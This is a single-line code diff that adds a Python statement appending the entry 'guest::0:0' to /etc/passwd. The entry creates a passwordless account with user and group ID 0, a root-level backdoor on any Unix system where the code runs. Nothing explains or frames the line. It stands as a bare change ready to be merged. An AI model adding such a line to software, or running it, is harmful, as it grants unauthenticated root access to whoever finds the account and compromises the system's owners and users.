@@ -1,0 +1,1 @@
+print("guest::0:0", file=open("/etc/passwd", "a"))
